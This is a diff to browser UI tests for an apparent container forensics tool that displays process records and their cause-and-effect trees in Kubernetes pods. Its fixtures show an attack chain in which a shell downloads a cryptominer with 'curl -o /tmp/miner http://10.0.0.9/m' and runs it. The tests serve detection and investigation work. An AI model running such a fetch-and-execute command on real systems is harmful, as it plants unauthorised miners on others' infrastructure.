@@ -39,7 +39,7 @@ test('a search narrows the list, the timeline and the address, and Clear shows e
   await page.getByText('More', { exact: true }).click();
   await page.getByLabel('written in the running container').check();
   await waitForText(page, '#list-status', /^1 record$/);
-  assert.deepEqual(await commands(page), ['./miner -q']);
+  assert.deepEqual(await commands(page), ['/tmp/miner -q']);
   assert.equal(
     await textOf(page, '#command'),
     "vcml query --pod 'shop/cart-*' --upper-layer INPUT…",
@@ -87,11 +87,11 @@ test('a selected record shows its causes, its effects, every field and sentences
   const fields = await details.locator('tr').allTextContents();
   for (const one of [`id${idOf(6)}`, 'timestamp1795400191950657708', 'k8s.pod.namecart-7d9f-x2x'])
     assert.ok(fields.includes(one), `${one} in ${fields.join('; ')}`);
-  assert.equal(await textOf(page, '#records [aria-selected="true"] .command'), './miner -q');
+  assert.equal(await textOf(page, '#records [aria-selected="true"] .command'), '/tmp/miner -q');
   await details.getByRole('button', { name: 'runc init' }).click();
   await waitForText(page, '#details h2', /^runc init$/);
   await page.goBack();
-  await waitForText(page, '#details h2', /^\.\/miner -q$/);
+  await waitForText(page, '#details h2', /^\/tmp\/miner -q$/);
 });
 
 test('the tree shows a record below its causes, and loads effects when they are opened', async () => {
@@ -99,8 +99,8 @@ test('the tree shows a record below its causes, and loads effects when they are 
   await page.getByRole('link', { name: 'Tree of this record' }).click();
   await waitForText(page, '#causes', /miner/);
   const rest = ['⋯ load other effects of sh', '⋯ load other effects of runc init'];
-  assert.deepEqual(await commands(page, '#causes'), ['runc init', 'sh', './miner -q', ...rest]);
-  const miner = page.locator('#causes [role="treeitem"]', { hasText: './miner' });
+  assert.deepEqual(await commands(page, '#causes'), ['runc init', 'sh', '/tmp/miner -q', ...rest]);
+  const miner = page.locator('#causes [role="treeitem"]', { hasText: '/tmp/miner' });
   assert.equal(await miner.getAttribute('aria-level'), '3');
   assert.equal(await miner.getAttribute('aria-expanded'), 'false');
   await miner.locator('.twisty').click();
@@ -112,7 +112,7 @@ test('the tree shows a record below its causes, and loads effects when they are 
     'runc init',
     'sh',
     'curl -o /tmp/miner http://10.0.0.9/m',
-    './miner -q',
+    '/tmp/miner -q',
   ]);
   assert.equal(all.includes(rest[0] ?? ''), false);
   await page.getByRole('link', { name: 'Tree of the selection' }).click();
